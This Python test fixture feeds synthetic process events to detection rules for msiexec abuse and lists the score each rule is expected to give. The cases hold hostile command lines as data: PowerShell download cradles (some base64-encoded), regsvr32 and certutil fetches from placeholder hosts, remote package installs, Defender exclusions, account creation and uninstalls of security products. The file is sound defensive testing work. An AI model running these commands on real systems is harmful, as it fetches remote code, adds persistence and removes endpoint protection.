"""Events and what the detections of the story on msiexec make of them: the score, or None for no hit."""

import base64

ZAP, FETCH, PARENT = (
    "Windows MSIExec DLL Unregistration",
    "Windows MSIExec Package From Network",
    "Windows MSIExec Unusual Parent",
)
CHILD, HIDDEN, RENAMED = "Windows MSIExec Unusual Child", "Windows MSIExec Hidden Launch", "Windows MSIExec Renamed"
SILENT, COPY = "Windows MSIExec Silent Package From User Folder", "Windows MSIExec Copy By Its Options"
FAKE, REMOVAL = "Windows MSIExec Masquerading", "Windows MSIExec Security Product Removal"
OTHER = "Windows Installer Through Another Program"
SYSTEM = "C:\\Windows\\System32\\"
INSTALLER = {"parent_process_name": "msiexec.exe", "parent_process_path": SYSTEM + "msiexec.exe"}
SOPHOS = "{7CD26A0C-9B59-4E84-B5EE-B386B2F7AA16}"


def started(line, by="explorer.exe", **changes):
    """Msiexec with a command line, started by Explorer or another program of Windows."""
    folder = "C:\\Windows\\" if by == "explorer.exe" else SYSTEM
    parent = {"parent_process_name": by, "parent_process_path": folder + by}
    own = {"process_name": "msiexec.exe", "process_path": SYSTEM + "msiexec.exe", "original_file_name": "msiexec.exe"}
    return {"process": line, **own, **parent, **changes}


def child(name, line, **changes):
    """A child of msiexec."""
    return {"process": line, "process_name": name, "process_path": SYSTEM + name, **INSTALLER, **changes}


def copy(line, path, **changes):
    """A program of which nobody knows the original name: so Windows Security 4688 shows all."""
    return started(line, process_name=path.rpartition("\\")[2], process_path=path, original_file_name="", **changes)


def other(name, line, **changes):
    """Another program than msiexec, started by a prompt."""
    return started(line, "cmd.exe", process_name=name, process_path=SYSTEM + name, original_file_name=name, **changes)


DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://h/a')"
REMOVE = """powershell (Get-WmiObject Win32_Product -Filter "Name='McAfee Agent'").Uninstall()"""
INVOKE = "powershell Invoke-CimMethod -ClassName Win32_Product -MethodName Install -Arguments @{{PackageLocation='{}'}}"
COM = "$i=New-Object -ComObject WindowsInstaller.Installer; $i.InstallProduct('https://h/a.msi')"
CLSID = COM.replace("-ComObject WindowsInstaller.Installer", "CLSID 000C1090-0000-0000-C000-000000000046")


def encoded(text):
    """What PowerShell takes for -EncodedCommand."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


CASES = [
    # -- /z calls DllUnregisterServer (Command-Line Options; LOLBAS; Atomic Red Team); weighed as a registration
    (ZAP, started(r'msiexec /z "C:\folder\evil.dll"'), 44),
    (ZAP, started(r"msiexec -Z C:\AtomicRedTeam\atomics\T1218.007\src\MSIRunner.dll", "cmd.exe"), 52),
    (ZAP, started(r"msiexec /z \\h\s\evil.dll"), 60),
    (ZAP, started(r'msiexec /z "C:\Program Files\..\Users\a\evil.dll"'), 72),
    (ZAP, started(r"a.exe /z C:\a.dll", process_name="a.exe"), 76),
    (ZAP, started(r"msiexec /z C:\a.dll", original_file_name="msiexec.exe.mui", process_name="a.exe"), 76),
    (ZAP, started(r"msiexec /z C:\Windows\\Temp\evil.dll"), 60),
    (ZAP, started(r'msiexec /z "C:\Windows\`\evil.dll"'), 72),
    (ZAP, started(r"msiexec /q/z C:\folder\evil.dll"), 44),
    (ZAP, started(r"msiexec /q /z C:\folder\photo.png", "wscript.exe"), 80),
    (ZAP, started("msiexec /z\nC:\\folder\\evil.dll"), 44),
    (ZAP, started(r'msiexec /Z "C:\Program Files\Vendor\a.dll"'), 24),
    (ZAP, started(r'msiexec /Z "C:\Program Files\Vendor\a.dll"', **INSTALLER), 4),  # SelfUnregModules
    (ZAP, started(r'msiexec /Z "C:\Users\a\AppData\Local\Vendor\a.dll"', **INSTALLER), 36),
    # Of another machine, an installer as parent says nothing.
    (ZAP, started(r"msiexec /z \\h\s\evil.dll", **INSTALLER), 60),
    (ZAP, started(r"msiexec /z \\h@8080\s\evil.dll", **INSTALLER), 60),
    (ZAP, started("msiexec /z"), None),
    (ZAP, started(r"msiexec /y C:\a.dll"), None),
    (ZAP, started(r'msiexec /i C:\x.msi P="a /z C:\b.dll"'), None),
    (ZAP, started(""), None),
    (ZAP, child("a.exe", r"a /z C:\a.dll", original_file_name="a.exe"), None),
    # -- a package, patch or transform from another machine (Command-Line Options; LOLBAS)
    (FETCH, started("msiexec /q /i http://192.168.100.3/tmp/cmd.png"), 63),
    (FETCH, started("msiexec /i https://h.example/x.msi"), 35),
    (FETCH, started(r"msiexec /i https:\\h.example\x.msi"), 35),
    (FETCH, started("msiexec /q /i http://h/x.msi", parent_process_name="wscript.exe"), 49),
    (FETCH, started('msiexec /i "https://t/s.msi" TRANSFORMS="https://e/e.mst" /qb'), 42),
    (FETCH, started(r"msiexec /i C:\s.msi TRANSFORMS=https://e/e.mst /qn"), 56),
    (FETCH, started(r"msiexec /i C:\s.msi TRANSFORMS=@x.mst;\\h@SSL\s\e.mst"), 42),
    (FETCH, started("msiexec /p https://h/x.msp /qn"), 49),
    (FETCH, started(r"msiexec /i \\h.example@8080\s\x.msi"), 35),
    (FETCH, started(r"msiexec /i \\h\DavWWWRoot\x.msi"), 35),
    (FETCH, started(r"msiexec /i \\files\deploy\x.msi /qn"), 31.5),
    (FETCH, started(r"msiexec /i \\files\deploy\x.msi /qn", parent_process_name="CcmExec.exe"), 24.5),
    (FETCH, started(r"msiexec /i C:\s.msi PATCH=\\h\s\x.msp"), 17.5),
    (FETCH, started("svc.exe /i http://h/x.msi", process_name="svc.exe"), 49),
    (FETCH, started('MSIEXEC /Q/I"http://h.example:8080/a/WS-1=amy"', "cmd.exe"), 63),  # Raspberry Robin
    (FETCH, started("msiexec -q-i https://h/x.msi"), 56),
    (FETCH, started(r"msiexec /q /i \\h@80\s\x.msi", **INSTALLER), 42),
    (FETCH, started("msiexec /i http://localhost:8000/x.msi /qn"), 24.5),
    (FETCH, started("msiexec /qn /i https://h/x.msi", original_file_name="msiexec.exe.mui", process_name="a.exe"), 63),
    (FETCH, started("msiexec /i x.msi SERVER=https://h.example/"), None),
    (FETCH, started("msiexec /i x.msi /l*v \\\\files\\logs\\x.log"), None),
    (FETCH, started(r"msiexec /i C:\http\x.msi"), None),
    (FETCH, copy("svc.exe /i http://h/x.msi", r"C:\a\svc.exe"), None),
    (FETCH, started(r"msiexec /y \\h\s\x.dll"), None),  # a registration
    (FETCH, started("MsiExec.exe -Embedding 9F17CF72F57573D6B6AE5214F745A83C"), None),
    (FETCH, started('msiexec /i " http://h/x.msi" /q'), 49),
    (FETCH, started("msiexec.exe/ihttp://h/x.msi /q"), 49),
    # No other switch hides a package.
    (FETCH, started("msiexec -Embedding A /i http://h/x.msi /qn"), 49),
    (FETCH, started(r"msiexec /i http://h/x.msi /y C:\Windows\System32\scrobj.dll /qn"), 49),
    (ZAP, started(r"msiexec.exe/zC:\a.dll"), 40),
    # -- started by what installs nothing
    (PARENT, started(r"msiexec /i C:\x.msi", parent_process_name="WINWORD.EXE"), 30),
    (PARENT, started("", parent_process_name=r"C:\Windows\System32\wbem\WmiPrvSE.exe"), 30),
    (PARENT, started("msiexec /q /i x", parent_process_name="w3wp.exe"), 30),
    (PARENT, started(r"msiexec /i C:\x.msi"), None),
    (PARENT, started(r"msiexec /i C:\x.msi", parent_process_name=r"C:\winword.exe\setup.exe"), None),
    (PARENT, child("cmd.exe", "cmd", parent_process_name="winword.exe"), None),
    # -- starts what installs nothing (Red Canary, Raspberry Robin; the DFIR Report)
    (CHILD, child("whoami.exe", "whoami /all"), 42),
    (CHILD, child("odbcconf.exe", "odbcconf.exe /a {configsysdsn}"), 42),
    (CHILD, child("powershell.exe", "powershell -nop -EncodedCommand AAAA"), 35),
    (CHILD, child("powershell.exe", "powershell /e AAAA"), 35),
    (CHILD, child("powershell.exe", f"powershell -w hidden -enc {encoded(DOWNLOAD)}"), 70),
    (CHILD, child("powershell.exe", f'powershell -c "{DOWNLOAD}"'), 42),
    (CHILD, child("pwsh.exe", r"pwsh -c iwr https://h/a.exe -OutFile C:\Users\Public\a.exe"), 38.5),
    (CHILD, child("cmd.exe", "cmd /c whoami /all"), 42),
    (CHILD, child("cmd.exe", r"cmd /c reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d a"), 35),
    (CHILD, child("powershell.exe", "powershell Add-MpPreference -ExclusionPath C:\\"), 35),
    (CHILD, child("curl.exe", r"curl -o C:\ProgramData\a.exe https://h/a.exe"), 38.5),
    (CHILD, child("certutil.exe", "certutil -urlcache -f https://h/a a"), 38.5),
    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\AppData\Roaming\x.dll,Go"), 42),
    (CHILD, child("regsvr32.exe", "regsvr32 /s /n /u /i:http://h/a.sct scrobj.dll"), 42),
    (CHILD, child("wscript.exe", r"wscript C:\Users\a\AppData\Local\Temp\x.vbs"), 28),
    (CHILD, child("ipconfig.exe", "ipconfig /all"), 42),
    (CHILD, child("powershell.exe", f"powershell --enc {encoded(DOWNLOAD)}"), 63),  # - or -- (PowerShell's parser)
    (CHILD, child("powershell.exe", f'powershell "-enc" "{encoded(DOWNLOAD)}"'), 63),
    (CHILD, child("cmd.exe", f"cmd /c powershell -enc {encoded(DOWNLOAD)}"), 63),
    (CHILD, child("powershell.exe", "powershell I`EX (N`ew-Object Net.Web`Client).Down`loadString('http://h')"), 42),
    (CHILD, child("cmd.exe", "cmd /c who^ami"), 42),
    (CHILD, child("curl.exe", "curl -o a h.example/a"), 38.5),
    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\x.dll,Go"), 42),
    (CHILD, child("rundll32.exe", "rundll32.exe C:/Users/a/AppData/Roaming/x.dll,Go"), 42),
    (CHILD, child("rundll32.exe", "rundll32.exe //h/s/x.dll,Go"), 42),
    (CHILD, child("wscript.exe", "wscript C:/Users/Public/x.vbs"), 28),
    # Words of the package's author lower nothing.
    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\AppData\Roaming\x.dll,GetOSVersion"), 42),
    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\AppData\Roaming\MSI1.tmp,Go"), 42),
    (CHILD, child("rundll32.exe", r"rundll32.exe C:\Users\a\x.dll,Go ,zzzzInvokeManagedCustomActionOutOfProc"), 42),
    (CHILD, child("whoami.exe", r"whoami /all C:\Program Files\a\ "), 42),
    (CHILD, child("cmd.exe", r"cmd /c net user a b /add & rem C:\Program Files\a"), 35),
    (CHILD, child("powershell.exe", r"powershell IEX(iwr http://h/a) #C:\Program Files\ "), 42),
    (CHILD, child("wscript.exe", r'wscript C:\x.vbs "C:\Program Files\a"'), 10.5),
    (CHILD, child("cmd.exe", r'cmd /c "C:\Program Files\..\a.bat"'), 14),
    # What packages use every day, if it says nothing more, is informational.
    (CHILD, child("powershell.exe", "powershell.exe -nop -Command Write-Host VBScript executed; exit"), 14),  # Atomic
    (CHILD, child("MSI4F2A.tmp", r'"C:\Windows\Installer\MSI4F2A.tmp" Hello from an EXE'), 14),  # Atomic
    (CHILD, child("powershell.exe", "powershell -ExecutionPolicy Bypass -File C:\\x.ps1"), 14),
    (CHILD, child("cmd.exe", "cmd /c ver"), 14),
    (CHILD, child("cmd.exe", "cmd /c ver", parent_process_name="MSI4F2A.tmp"), 14),
    (CHILD, child("a.exe", "a.exe", process_path=r"C:\Users\a\AppData\Roaming\a.exe"), 14),
    (CHILD, child("powershell.exe", r"powershell -File C:\Users\a\AppData\Local\Temp\pss1.ps1"), 17.5),
    (CHILD, child("nltest.exe", "", parent_process_name=SYSTEM + "msiexec.exe"), 42),
    (CHILD, child("rundll32.exe", r'rundll32.exe "C:\Windows\Installer\MSI1.tmp",zzzzInvokeManagedCustomAction'), None),
    (CHILD, child("MSI1.tmp", r'"C:\Windows\Installer\MSI1.tmp"'), None),
    (CHILD, child("cmd.exe", r'cmd /c ""C:\Program Files\Vendor\install.bat""'), None),
    (CHILD, child("cscript.exe", r'cscript //nologo "C:\Program Files\Vendor\printer.vbs"'), None),
    (CHILD, child("regsvr32.exe", r'regsvr32 /s "C:\Program Files\Vendor\a.dll"'), None),
    (CHILD, child("ipconfig.exe", "ipconfig /flushdns"), None),
    (CHILD, child("net.exe", "net start spooler"), None),
    (CHILD, child("certutil.exe", r"certutil -addstore TrustedPublisher C:\Vendor\a.cer"), None),
    (CHILD, child("schtasks.exe", r"schtasks /create /tn Vendor /tr C:\Vendor\a.exe"), None),
    (CHILD, child("app.exe", "app.exe", process_path=r"C:\Users\a\AppData\Local\Programs\App\app.exe"), None),
    (CHILD, child("msiexec.exe", "msiexec /y C:\\a.dll"), None),
    (CHILD, child("whoami.exe", "whoami", parent_process_name="cmd.exe"), None),
    # -- /HideWindow (Splunk ESCU, Windows MsiExec HideWindow Rundll32 Execution)
    (HIDDEN, child("MSI4F2A.tmp", r'"C:\Windows\Installer\MSI4F2A.tmp" /HideWindow rundll32 C:\a.dll,Go'), 49),
    (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp" /DontWait /hidewindow "C:\Windows\System32\cmd.exe" /c a'), 49),
    (HIDDEN, child("MSIA.tmp", r"MSIA.tmp /HideWindow powershell -c a", parent_process_name="a.exe"), 49),
    (
        HIDDEN,
        child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp" /HideWindow rundll32 C:\Users\a\AppData\a.dll,Go'),
        59.5,
    ),  # QakBot
    (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp" /DontWait /HideWindow "C:\Users\a\AppData\Local\a.exe" /s'), 31.5),
    (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp"/HideWindow msbuild C:\a.xml'), 49),
    (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp" /HideWindow C:/Users/a/a.exe'), 31.5),
    (HIDDEN, child("MSI4F2A.tmp", r'"C:\MSI4F2A.tmp" /HideWindow C:\Vendor\setup.exe'), None),
    (HIDDEN, child("a.exe", "a /HideWindow rundll32 x", parent_process_name="b.exe"), None),
    (HIDDEN, child("a.exe", "a --nohidewindow rundll32 x"), None),
    # -- a copy under another name (ATT&CK T1036.003)
    (RENAMED, started("a.exe /i x", process_name="a.exe"), 56),
    (RENAMED, started("", process_name="svchost.exe", original_file_name="MSIEXEC.EXE"), 56),
    (RENAMED, started("a.exe /i x", process_name="a.exe", original_file_name="msiexec.exe.mui"), 56),
    (RENAMED, started("msiexec /i x", process_name="MSIEXEC.EXE"), None),
    (RENAMED, child("cmd.exe", "msiexec", original_file_name="Cmd.Exe"), None),
    (RENAMED, started("a.exe /i x", process_name="a.exe", original_file_name=""), None),
    # -- silently from where users write (Atomic Red Team; Sigma and Elastic, which leave setup programs out)
    (SILENT, started(r'msiexec.exe /q /i "C:\AtomicRedTeam\atomics\T1218.007\src\a.msi"', "cmd.exe"), 15),
    (SILENT, started(r"msiexec /q /j C:\Users\a\AppData\Local\Temp\a.msi", "powershell.exe"), 20),
    (SILENT, started(r"msiexec /q/i C:\Users\a\Downloads\a.msi"), 25),
    (SILENT, started(r"msiexec /qn /p C:\Windows\Temp\a.msp"), 20),
    (SILENT, started(r"msiexec /q /i C:\Users\a\Downloads\invoice.png", "wscript.exe"), 50),
    (SILENT, started(r"a.exe /q /i C:\Users\Public\a.msi", "mshta.exe", process_name="a.exe"), 50),
    (SILENT, started(r"msiexec /i C:\Users\a\AppData\Local\Temp\{A}\s.msi /qn", parent_process_name="setup.exe"), 5),
    (SILENT, started(r"msiexec /q /i C:\Users\a\Downloads\a.png", parent_process_name="setup.exe"), 32.5),
    (SILENT, started(r"msiexec /q /i C:\Users\a\a.msi TRANSFORMS=https://dl.google.com/a.mst"), 20),
    (SILENT, started(r"msiexec /i C:\Users\a\Downloads\a.msi"), None),
    (SILENT, started(r"msiexec /i C:\Windows\ccmcache\1\a.msi /qn"), None),
    (SILENT, started(r'msiexec /i "C:\Program Files\Vendor\a.msi" /quiet'), None),
    (SILENT, started("msiexec /i https://h/a.msi /qn"), None),
    (SILENT, started("msiexec /x {1BCBF52C-CD1B-454D-AEF7-852F73967318} /qn"), None),
    # -- a copy that only its options show (4688 has no original name)
    (COPY, copy(r"update.exe /y C:\Users\Public\a.dll", r"C:\Users\Public\update.exe"), 45.5),
    (COPY, copy(r"update.exe /z C:\Users\a\a.dll", r"C:\Users\a\update.exe"), 28),
    (COPY, copy(r"update.exe /q/y C:\Users\a\a.dll", r"C:\Users\a\update.exe"), 35),
    (COPY, copy("update.exe /qn /i http://h/x.png", r"C:\Users\a\update.exe"), 38.5),
    (COPY, copy('u.exe /Q/I"http://h/x.png"', r"C:\Windows\Temp\u.exe"), 56),
    (COPY, copy(r"svc.tmp -y \\h\s\a.dll", r"C:\ProgramData\svc.tmp", parent_process_name="wscript.exe"), 70),
    # Other programs have a /y, too: low.
    (COPY, copy(r"tool.exe /y C:\Tools\a.dll", r"C:\Tools\tool.exe"), 21),
    (COPY, copy(r"tool.exe /y C:\Users\a\a.dll", r"C:\Program Files\Vendor\tool.exe"), 14),
    (COPY, copy(r"xcopy /y C:\a.dll", SYSTEM + "xcopy.exe"), None),
    (COPY, copy(r"xcopy /y C:\a.dll D:\b", r"C:\Tools\xcopy.exe"), None),
    (COPY, copy("curl -i https://h/x.msi", r"C:\Tools\curl.exe"), None),
    (COPY, copy("wget -q -i https://h/list", r"C:\Tools\wget.exe"), None),
    (COPY, started(r"a.exe /y C:\a.dll", process_name="a.exe"), None),  # its original name is known: Renamed
    (COPY, copy(r"msiexec /y C:\a.dll", SYSTEM + "msiexec.exe"), None),
    # -- a msiexec.exe where none belongs (ATT&CK T1036.005; the DFIR Report; Sigma, Elastic)
    (
        FAKE,
        copy("msiexec.exe -server 192.0.2.7", r"C:\ManageEngine\bin\msiexec.exe", parent_process_name="java.exe"),
        80,
    ),
    (FAKE, copy("msiexec.exe", r"C:\Users\a\msiexec.exe"), 56),
    (FAKE, started("msiexec /i x", process_path=r"C:\Users\a\msiexec.exe"), 48),
    (FAKE, started("msiexec", process_path=r"C:\Users\a\MsiExec.exe", original_file_name="nc.exe"), 72),
    (FAKE, started("msiexec /i x", process_path="C:/Users/a/msiexec.exe"), 48),
    (FAKE, started("msiexec /i x", process_path=r"C:\Windows\msiexec.exe"), 48),
    (FAKE, started("msiexec /i x", process_path=r"C:\Windows\System32\a\msiexec.exe"), 48),
    (FAKE, started("msiexec /i x", process_path=r"D:\Windows\System32\msiexec.exe"), 20),
    (FAKE, started("msiexec /i x", process_path=r"C:\Files\Windows\System32\msiexec.exe"), 48),
    (FAKE, started("msiexec", process_path=r"E:\Windows\System32\msiexec.exe", original_file_name="nc.exe"), 72),
    (FAKE, started("msiexec /i x", process_path=r"\\?\C:\Windows\System32\msiexec.exe"), None),
    (FAKE, started("msiexec /i x"), None),
    (FAKE, started("msiexec /i x", process_path=r"C:\Windows\SysWOW64\MSIEXEC.EXE", original_file_name=""), None),
    (
        FAKE,
        started("msiexec /i x", process_path=r"C:\Windows\WinSxS\amd64_microsoft-windows-installer\msiexec.exe"),
        None,
    ),
    (FAKE, started("msiexec", process_path=r"\Device\HarddiskVolume3\Windows\System32\msiexec.exe"), None),
    (FAKE, started("msiexec", process_path="msiexec.exe"), None),
    (FAKE, started("msiexec", process_path=""), None),
    # -- security products that go (ESCU; Sigma, Potential Tampering With Security Products Via WMIC)
    (REMOVAL, started(f"MsiExec.exe /qn /X{SOPHOS} REBOOT=ReallySuppress", "cmd.exe"), 60),
    (REMOVAL, started(f"msiexec /x {SOPHOS.lower()}"), 44),
    (REMOVAL, started(f"msiexec /x{SOPHOS}/qn"), 52),
    (REMOVAL, started(r'msiexec /uninstall "C:\Install\CrowdStrike Falcon.msi" /quiet'), 52),
    (REMOVAL, started("msiexec /i {1BCBF52C-CD1B-454D-AEF7-852F73967318} REMOVE=ALL /l*v C:\\Sophos.log /qn"), 52),
    (REMOVAL, other("wmic.exe", 'wmic product where name="ESET Agent" call uninstall /nointeractive'), 60),
    (REMOVAL, other("powershell.exe", REMOVE), 52),
    (REMOVAL, started(f"msiexec /i {SOPHOS} REMOVE=ALL /qn"), 52),
    (REMOVAL, started(f"msiexec /x {{1BCBF52C-CD1B-454D-AEF7-852F73967318}};{SOPHOS} /qn"), 52),
    (REMOVAL, started(rf"msiexec /y C:\Windows\System32\scrobj.dll /x {SOPHOS}"), 44),
    (REMOVAL, other("wmic.exe", f"wmic product where \"IdentifyingNumber='{SOPHOS}'\" call uninstall"), 52),
    (REMOVAL, other("powershell.exe", "powershell gcim Win32_Product|? Name -like *Sophos*|icim -Me Uninstall"), 52),
    (REMOVAL, other("powershell.exe", "powershell gcim Win32_Product|? Name -like *Sophos*|icim Uninstall"), 52),
    (REMOVAL, started(f"msiexec /i {SOPHOS} REINSTALL=ALL"), None),
    (REMOVAL, started(r"msiexec /x C:\Users\a\Downloads\avg-price.msi"), None),
    (REMOVAL, started(r"msiexec /x C:\src\sysmonitor\a.msi"), None),
    (REMOVAL, started("msiexec /x {1BCBF52C-CD1B-454D-AEF7-852F73967318} /qn"), None),
    (REMOVAL, started(r"msiexec /i C:\Install\Sophos.msi /qn"), None),
    (REMOVAL, other("wmic.exe", 'wmic product where name="Sophos AutoUpdate" get version'), None),
    (REMOVAL, other("wmic.exe", 'wmic product where name="7-Zip" call uninstall'), None),
    (REMOVAL, other("cmd.exe", r"cmd /c type C:\Sophos\uninstall-product.log"), None),
    # -- without msiexec's command line (Atomic Red Team; LOLBAS, Devinit; Sigma, Elastic)
    (OTHER, other("powershell.exe", INVOKE.format(r"C:\AtomicRedTeam\a.msi")), 21),
    (OTHER, other("powershell.exe", INVOKE.format(r"\\files\s\a.msi")), 28),
    (OTHER, other("powershell.exe", INVOKE.format("https://h/a.msi")), 45.5),
    (OTHER, other("powershell.exe", f"powershell -c {COM}"), 45.5),
    (OTHER, other("mshta.exe", f"mshta vbscript:{COM}"), 56),
    (OTHER, other("wmic.exe", r'wmic /node:ws2 product call install true,"","\\files\s\a.msi"'), 28),
    (OTHER, other("devinit.exe", "devinit.exe run -t msi-install -i https://h/a.msi"), 45.5),
    (OTHER, other("rundll32.exe", "rundll32 shell32.dll,ShellExec_RunDLL msiexec /q /i https://h/a.msi"), 56),
    (
        OTHER,
        other("powershell.exe", "powershell icim Win32_Product Install @{PackageLocation='https://h/a.msi'}"),
        45.5,
    ),
    (OTHER, other("powershell.exe", "powershell iwmi -Class Win32_Product -Name:Install $true,'','https://h/a'"), 45.5),
    (
        OTHER,
        other("powershell.exe", "powershell ([wmiclass]'Win32_Product').InvokeMethod('Install','https://h/a')"),
        45.5,
    ),
    (OTHER, other("devinit.exe", "devinit.exe run --tool msi-install --input https://h/a.msi"), 45.5),
    (OTHER, other("powershell.exe", CLSID), 45.5),
    (OTHER, other("wmic.exe", "wmic product get name,version"), None),
    (OTHER, other("powershell.exe", "powershell Get-CimInstance -ClassName Win32_Product | select Name"), None),
    (
        OTHER,
        other("powershell.exe", "powershell -c $i=New-Object -ComObject WindowsInstaller.Installer; $i.Products"),
        None,
    ),
    (OTHER, started("msiexec /i product.msi"), None),
]
